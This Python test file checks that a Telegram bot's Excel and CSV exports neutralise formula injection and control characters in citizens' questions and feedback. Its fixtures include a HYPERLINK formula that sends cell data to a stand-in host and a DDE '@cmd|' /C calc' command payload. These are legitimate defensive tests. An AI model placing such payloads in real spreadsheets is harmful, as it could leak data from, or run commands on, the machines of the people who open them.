"""Exports never run a citizen's text as a formula and never break on a control character.

Regression tests for issue #10, defects 6 and 7: ``=HYPERLINK(...)`` in a question became a
live formula in the officers' workbooks and CSV files; one ``\\x0b`` or ``\\x1b`` made openpyxl
raise, so the session download and ``/baocao`` failed for everyone, with the citizen's text in
the log line. Every export goes through :func:`bot.spreadsheet.safe_cell`.
"""

from __future__ import annotations

import csv
import io
import logging

import pytest
from openpyxl import load_workbook

from bot.core.services import Services
from bot.metrics import command, plain
from bot.metrics.model import Column, Report, Section, Table, text
from bot.spreadsheet import safe_cell
from bot.voice import export
from tests.harness import TelegramBotDriver, texts
from tests.voice_helpers import OFFICER, ask, citizen, make_session, staff

FORMULA = '=HYPERLINK("http://127.0.0.1/x?d="&A1,"Bấm để xem")'
CONTROL = "Hộ nghèo\x0bvay vốn\x1b[31m bao nhiêu tiền vậy ạ"


@pytest.mark.parametrize(
    ("raw", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+84912345678", "'+84912345678"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a\x00b\x0bc\x1bd\x7fe", "a b c d e"),
        ("\x0b=1", " =1"),
        ("dòng 1\ndòng 2\tcột", "dòng 1\ndòng 2\tcột"),
        ("Hộ cận nghèo = 70%", "Hộ cận nghèo = 70%"),
        (12, 12),
        (-3.5, -3.5),
        (None, None),
    ],
)
def test_safe_cell(raw: object, cell: object) -> None:
    assert safe_cell(raw) == cell


def no_formulas(book_bytes: bytes) -> list[str]:
    """Every string cell of every sheet; asserts none is a formula."""
    book = load_workbook(io.BytesIO(book_bytes))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula in {sheet.title}!{cell.coordinate}"
                if isinstance(cell.value, str):
                    values.append(cell.value)
    return values


async def test_session_download_keeps_a_formula_as_text_and_survives_control_characters(
    bot: TelegramBotDriver, caplog: pytest.LogCaptureFixture
) -> None:
    staff(bot, OFFICER)
    session = make_session(bot.store)
    for user, question in ((540, FORMULA), (541, CONTROL)):
        await citizen(bot, user)
        await ask(bot, user, session, question)
    caplog.set_level(logging.DEBUG)
    await bot.say(OFFICER, "/phien")
    replies = await bot.press(OFFICER, f"📥 Tải Excel #{session.id}")
    assert replies[0].document_bytes, texts(replies)
    values = no_formulas(replies[0].document_bytes)
    assert "'" + FORMULA in values
    assert "Hộ nghèo vay vốn [31m bao nhiêu tiền vậy ạ" in values
    ours = [r for r in caplog.records if r.name.split(".")[0] in ("bot", "faq")]
    logged = "\n".join(r.getMessage() + str(r.exc_info) for r in ours)
    assert "HYPERLINK" not in logged and "[31m" not in logged


async def test_baocao_workbook_keeps_a_missed_question_as_text(bot: TelegramBotDriver) -> None:
    for user, question in ((550, FORMULA), (551, CONTROL)):
        await bot.onboard(user, commune="Xã Quế Phong")
        asker = bot.store.citizens.get(bot.user_id(user))
        assert asker is not None
        bot.store.questions.submit("faq_miss", asker, question)
    staff(bot, OFFICER)
    await bot.say(OFFICER, "/baocao")
    replies = await bot.press(OFFICER, "Năm nay")
    assert [r.method for r in replies] == ["sendMessage", "sendPhoto", "sendDocument"], texts(
        replies
    )
    values = no_formulas(replies[2].document_bytes or b"")
    assert any(v.startswith("'=HYPERLINK(") for v in values)
    assert not any("\x0b" in v or "\x1b" in v for v in values)


def rows_of(data: str | bytes) -> list[list[str]]:
    raw = data.decode("utf-8") if isinstance(data, bytes) else data
    return list(csv.reader(io.StringIO(raw.removeprefix("\ufeff"))))


async def test_question_and_feedback_csv_neutralise_formulas(bot: TelegramBotDriver) -> None:
    session = make_session(bot.store)
    await citizen(bot, 560)
    await ask(bot, 560, session, FORMULA)
    asker = bot.store.citizens.get(bot.user_id(560))
    assert asker is not None
    bot.store.voice.queue.submit("feedback", "@cmd|' /C calc'!A0 góp ý", citizen=asker, prefix="GY")
    services: Services = bot.engine.services
    questions = rows_of(
        await export.questions_csv(services, export.Selection(session_id=session.id))
    )
    assert any("'" + FORMULA in row for row in questions)
    feedback = rows_of(await export.feedback_csv(services, export.Selection()))
    cells = [cell for row in feedback[1:] for cell in row]
    assert "'@cmd|' /C calc'!A0 góp ý" in cells
    every = [cell for row in questions + feedback for cell in row]
    assert not any(c.startswith(("=", "+", "-", "@")) for c in every)


def test_report_csv_neutralises_formulas() -> None:
    table = Table("t", "T", [text("Câu hỏi"), Column("Số lần")], [["-1+cmd", 2], ["=A1", 1]])
    section = Section("s", "S", "S", tables=[table])
    files = plain.csv_files(Report("A", "R", "2026", "xã", "now", demo=False, sections=[section]))
    [data] = files.values()
    assert rows_of(data)[1:] == [["'-1+cmd", "2"], ["'=A1", "1"]]


async def test_a_failed_report_logs_where_not_the_citizens_words(
    bot: TelegramBotDriver, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def failing(*_args: object) -> None:
        raise ValueError(f"{CONTROL} cannot be used in worksheets.")  # as openpyxl words it

    monkeypatch.setattr(command, "render", failing)
    staff(bot, OFFICER)
    await bot.say(OFFICER, "/baocao")
    replies = await bot.press(OFFICER, "Năm nay")
    assert "chưa lập được báo cáo" in texts(replies)[0]
    [record] = [r for r in caplog.records if r.name == "bot.metrics.command"]
    assert "ValueError" in record.getMessage() and record.exc_info is None
    assert "vay vốn" not in record.getMessage()


async def test_a_forged_thumbs_down_never_reaches_the_report(bot: TelegramBotDriver) -> None:
    await bot.onboard(580)
    replies = await bot.press_data(580, "fb:d:=HYPERLINK(1)", forged=True)
    assert texts(replies)[0] == "Nút này đã cũ. Mời bà con chọn lại ở danh sách mới."
    assert bot.store.events.count("faq_feedback") == 0
    replies = await bot.press_data(580, "fb:u:bhyt.can_ngheo", forged=True)
    assert bot.store.events.count("faq_feedback") == 1
